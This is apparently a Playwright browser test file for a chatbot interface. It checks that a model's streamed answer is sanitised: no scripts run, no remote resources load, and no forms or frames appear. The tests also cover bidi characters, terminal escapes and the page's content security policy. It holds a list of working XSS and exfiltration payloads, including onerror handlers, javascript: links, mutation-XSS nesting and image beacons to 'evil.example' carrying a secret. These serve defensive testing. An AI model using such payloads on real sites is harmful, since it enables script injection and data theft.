// What a model may write: anything. In a real browser, on the built page: no script of it runs, nothing of it is fetched, nothing of it becomes a field or a
// frame; Markdown and formulas still work. The answers come from a server that says what the test wants.

import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { readPage } from "../../src/platform/node-page.ts";
import { buildPage } from "../../tools/build-page.ts";
import { openServer } from "../server/harness.ts";
import { chromium, launch, openPage, temporaryFolder } from "./place.ts";

const folder = temporaryFolder();
let browser: Browser;
beforeAll(async () => {
  if (!chromium) return;
  await buildPage(folder.path);
  browser = await launch();
}, 120_000);
afterAll(async () => {
  await browser?.close();
  folder.remove();
});

/** Opens the page and lets the model say this, once; the page is returned when the answer is done. */
async function hear(says: string): Promise<{ page: Page; errors: string[]; strangers: string[] }> {
  const page = await readPage([folder.path]);
  if (!page) throw new Error("the page is not built");
  const { url } = await openServer({ page, spoken: { says: "unused" } });
  const opened = await openPage(browser, url);
  await opened.page.route("**/v1/chat/completions", (route) =>
    route.fulfill({
      contentType: "text/event-stream",
      body: `${[{ delta: { reasoning_content: says } }, { delta: { content: says } }, { delta: {}, finish_reason: "stop" }]
        .map((choice) => `data: ${JSON.stringify({ choices: [choice] })}\n\n`)
        .join("")}data: [DONE]\n\n`,
    }),
  );
  await opened.page.locator("#composer").fill(says.slice(0, 200));
  await opened.page.locator("#composer").press("Enter");
  await opened.page.locator(".answer-tools").waitFor();
  await opened.page.waitForTimeout(300);
  return opened;
}

const attacks = [
  "<script>window.hit = 1</script>",
  "<img src=x onerror='window.hit = 1'>",
  "<img src='https://evil.example/pixel.png'>",
  "![](https://evil.example/leak?secret=1)",
  "![x][y]\n\n[y]: https://evil.example/leak",
  "[click](javascript:window.hit=1)",
  "[click](data:text/html,<script>window.hit=1</script>)",
  "[click](vbscript:x)",
  "<a href='javascript:window.hit=1' id=location>x</a>",
  "<svg onload='window.hit=1'><animate onbegin='window.hit=1' attributeName=x dur=1s></svg>",
  "<svg><style><img src=x onerror=window.hit=1></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1></style></mglyph></table></mtext></math>",
  "<iframe src='https://evil.example'></iframe><object data='https://evil.example'></object><embed src='https://evil.example'>",
  "<link rel=stylesheet href='https://evil.example/a.css'><style>@import 'https://evil.example/b.css';</style>",
  "<form action='https://evil.example'><input name=q><button>send</button></form>",
  "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<video src='https://evil.example/v' autoplay><audio src='https://evil.example/a' autoplay></audio></video>",
  "<div style=\"background:url('https://evil.example/c')\">x</div>",
  "<details open ontoggle='window.hit=1'>x</details>",
  "\\(\\href{javascript:window.hit=1}{x}\\) \\(\\includegraphics{https://evil.example/x.png}\\) \\(\\htmlStyle{background:url(https://evil.example/d)}{x}\\)",
  "$$\\def\\a{\\a\\a}\\a$$",
  "\\(\\rule{9999em}{9999em}\\)",
  `$$${"x".repeat(150_000)}$$`,
  `\\(${"{".repeat(1400)}x${"}".repeat(1400)}\\)`,
  "```html\n<script>window.hit=1</script>\n```",
  '<https://evil.example/"onmouseover="window.hit=1>',
  '<!--<img src="--><img src=x onerror=window.hit=1//">',
  "| a |\n|---|\n| <img src=x onerror=window.hit=1> |",
  '[x](https://ok.example "\'><img src=x onerror=window.hit=1>")',
];

describe.skipIf(!chromium)("a hostile answer (A86)", () => {
  test.each(attacks.map((says) => [says.slice(0, 60), says] as const))("%s", async (_, says) => {
    const { page, errors, strangers } = await hear(says);
    // Whatever waits for a hand gets one.
    for (const link of await page.locator(".answer a, .answer summary").all())
      await link.hover({ force: true, timeout: 1000 }).catch(() => {});
    expect(await page.evaluate(() => (window as unknown as { hit?: number }).hit)).toBeUndefined();
    expect(strangers).toEqual([]);
    expect(errors).toEqual([]);
    const made = await page
      .locator(".messages")
      .locator(
        "script, img, iframe, object, embed, link, style, form:not(.editor), meta, base, video, audio, svg:not(.icon):not(.katex svg), input",
      )
      .count();
    expect(made).toBe(0);
    const addresses = await page
      .locator(".messages a[href]")
      .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).protocol));
    for (const protocol of addresses) expect(protocol).toMatch(/^(?:https?|mailto):$/);
    const handlers = await page
      .locator(".messages *")
      .evaluateAll((all) =>
        all.flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith("on") || name === "srcdoc" || name === "action")),
      );
    expect(handlers).toEqual([]);
    await page.context().close();
  });

  test("A86: signs that turn the writing round are shown in code, and end with their paragraph elsewhere", async () => {
    const { page, errors } = await hear("before \u202etxt.exe\n\nafter\n\n```js\nif (admin\u202e \u2066) // end\n```");
    expect(await page.locator(".prose mark").allTextContents()).toEqual(["U+202E", "U+2066"]);
    const after = page.locator(".prose p").nth(1);
    expect(await after.textContent()).toBe("after");
    // The word is drawn from left to right: its first letter stands before its last.
    const [first, last] = await after.evaluate((paragraph) => {
      const place = (at: number) => {
        const range = document.createRange();
        range.setStart(paragraph.firstChild as Text, at);
        range.setEnd(paragraph.firstChild as Text, at + 1);
        return range.getBoundingClientRect().left;
      };
      return [place(0), place(4)];
    });
    expect(first).toBeLessThan(last as number);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  test("A86: a line of a megabyte, and one of escapes of a terminal: shown as text, and the page goes on", async () => {
    for (const says of ["x".repeat(1_000_000), "\u001b[2J\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 ".repeat(200)]) {
      const { page, errors, strangers } = await hear(says);
      expect(await page.locator(".prose a").count()).toBe(
        says.startsWith("x") ? 0 : await page.locator(".prose a[href^='https:']").count(),
      );
      expect((await page.locator(".prose").textContent())?.length).toBeGreaterThan(1000);
      expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
      await page.getByRole("button", { name: "New conversation" }).click();
      await page.locator(".example, h1, h2").first().waitFor();
      expect(strangers).toEqual([]);
      expect(errors).toEqual([]);
      await page.context().close();
    }
  });

  test("A86: what came in all the same could not run or call home: the page's policy refuses it", async () => {
    const { page } = await hear("x");
    const refused = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => violations.push(effectiveDirective));
      const add = (html: string) => document.body.append(document.createRange().createContextualFragment(html));
      add("<script>window.hit = 1</script>");
      add(
        "<img src='https://evil.example/a.png'><iframe src='https://evil.example/'></iframe><object data='https://evil.example/'></object>",
      );
      add("<link rel=stylesheet href='https://evil.example/a.css'><div onclick='window.hit = 1' id=handler></div>");
      document.getElementById("handler")?.click();
      const called = await fetch("https://evil.example/").then(
        () => "answered",
        () => "refused",
      );
      await new Promise((next) => setTimeout(next, 300));
      return { called, violations: [...new Set(violations)].sort(), hit: (window as unknown as { hit?: number }).hit };
    });
    expect(refused.called).toBe("refused");
    expect(refused.hit).toBeUndefined();
    for (const directive of ["connect-src", "frame-src", "img-src", "object-src", "script-src-attr", "script-src-elem", "style-src-elem"])
      expect(refused.violations).toContain(directive);
    await page.context().close();
  });

  test("Markdown, code, tables and formulas are shown as such", async () => {
    const { page, errors, strangers } = await hear(
      "# Title\n\nSome **bold** and `code`, <b>no html</b>.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst a = 1;\n```\n\nInline \\(x^2\\) and costs $5 and $6, display:\n\n$$\\frac{1}{2}$$\n\n\\[ y = \\sqrt{2} \\]\n\n[link](https://example.com)",
    );
    await page.locator(".katex").first().waitFor();
    const prose = page.locator(".prose");
    expect(await prose.locator("h1").textContent()).toBe("Title");
    expect(await prose.locator("strong").textContent()).toBe("bold");
    expect(await prose.locator("li").count()).toBe(2);
    expect(await prose.locator("td").allInnerTexts()).toEqual(["1", "2"]);
    expect(await prose.locator(".code pre").textContent()).toBe("const a = 1;");
    expect(await prose.locator(".katex-display").count()).toBe(2);
    expect(await prose.locator(".math-inline .katex").count()).toBe(1);
    expect(await prose.textContent()).toContain("costs $5 and $6");
    expect(await prose.textContent()).toContain("<b>no html</b>");
    const link = prose.locator("a");
    expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(await link.getAttribute("target")).toBe("_blank");
    expect(errors).toEqual([]);
    expect(strangers).toEqual([]);
    await page.context().close();
  });

  test("a long answer streams in pieces of any size to the same page as all at once", async () => {
    const text = "A *list*:\n\n1. one\n2. **two**\n\n```js\nlet a;\n```\n\nEnd \\(a_1\\).";
    const { page } = await hear(text);
    await page.locator(".katex").first().waitFor();
    const whole = await page.locator(".prose").innerHTML();
    await page.unroute("**/v1/chat/completions");
    await page.route("**/v1/chat/completions", (route) =>
      route.fulfill({
        contentType: "text/event-stream",
        body: `${[...text].map((letter) => `data: ${JSON.stringify({ choices: [{ delta: { content: letter } }] })}\n\n`).join("")}data: ${JSON.stringify({ choices: [{ delta: {}, finish_reason: "stop" }] })}\n\ndata: [DONE]\n\n`,
      }),
    );
    await page.getByRole("button", { name: "Try again" }).click();
    await page.getByText("2 / 2").waitFor();
    await page.locator(".katex").first().waitFor();
    await page.waitForTimeout(200);
    expect(await page.locator(".prose").innerHTML()).toBe(whole);
    await page.context().close();
  });
});
